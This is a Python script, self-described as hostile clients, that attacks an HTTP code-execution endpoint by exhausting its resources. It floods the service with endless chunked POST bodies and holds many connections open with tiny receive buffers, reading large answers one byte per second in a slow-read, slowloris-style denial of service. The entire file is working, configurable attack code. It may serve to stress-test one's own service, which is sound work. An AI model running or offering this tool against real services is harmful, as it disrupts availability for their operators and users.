"""Hostile clients, which cost a service as much as they can, until standard input ends.

    clients.py ADDRESS PORT PIECE BODY SENDERS READERS READERS_PER_SECOND

SENDERS send bodies of BODY bytes in chunks of PIECE bytes, again and again. READERS ask for an answer of
1 MiB each and read a byte of it each second.
"""

import os
import socket
import sys
import threading
import time

ADDRESS = (sys.argv[1], int(sys.argv[2]))
PIECE, BODY, SENDERS, READERS, READERS_PER_SECOND = map(int, sys.argv[3:8])

HEAD = "POST /api/v0/code-exec HTTP/1.1\r\nHost: codejail\r\nContent-Type: application/x-www-form-urlencoded\r\n"
CHUNK = b"%x\r\n%s\r\n" % (PIECE, b"a" * PIECE)
# Bytes that are written at a time, however short the chunks are.
BLOCK = CHUNK * max(1, (1 << 16) // PIECE)
QUESTION = b'payload={"code": "x %3D \'y\' * (1 << 20)", "globals_dict": {}}'


def send_bodies():
    head = (HEAD + "Transfer-Encoding: chunked\r\n\r\n").encode()
    while True:
        try:
            with socket.create_connection(ADDRESS) as stream:
                stream.sendall(head)
                for _ in range(BODY // PIECE * len(CHUNK) // len(BLOCK)):
                    stream.sendall(BLOCK)
                stream.sendall(b"0\r\n\r\n")
                stream.recv(1 << 16)
        except OSError:
            # The service has closed this connection: the next one.
            time.sleep(0.01)


def ask():
    stream = socket.socket()
    # Small buffers, so that little of the answer fits into them.
    stream.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    stream.connect(ADDRESS)
    stream.sendall(f"{HEAD}Content-Length: {len(QUESTION)}\r\n\r\n".encode() + QUESTION)
    stream.setblocking(False)
    return stream


def read_slowly():
    streams = []
    while True:
        began = time.monotonic()
        going_on = []
        for stream in streams:
            try:
                if stream.recv(1):
                    going_on.append(stream)
            except BlockingIOError:
                going_on.append(stream)
            except OSError:
                pass
        streams = going_on
        for _ in range(min(READERS_PER_SECOND, READERS - len(streams))):
            try:
                streams.append(ask())
            except OSError:
                break
        time.sleep(max(0, began + 1 - time.monotonic()))


for target in [*[send_bodies] * SENDERS, *[read_slowly] * bool(READERS)]:
    threading.Thread(target=target, daemon=True).start()
sys.stdin.read()
# Threads that wait in a system call end only with the process.
os._exit(0)
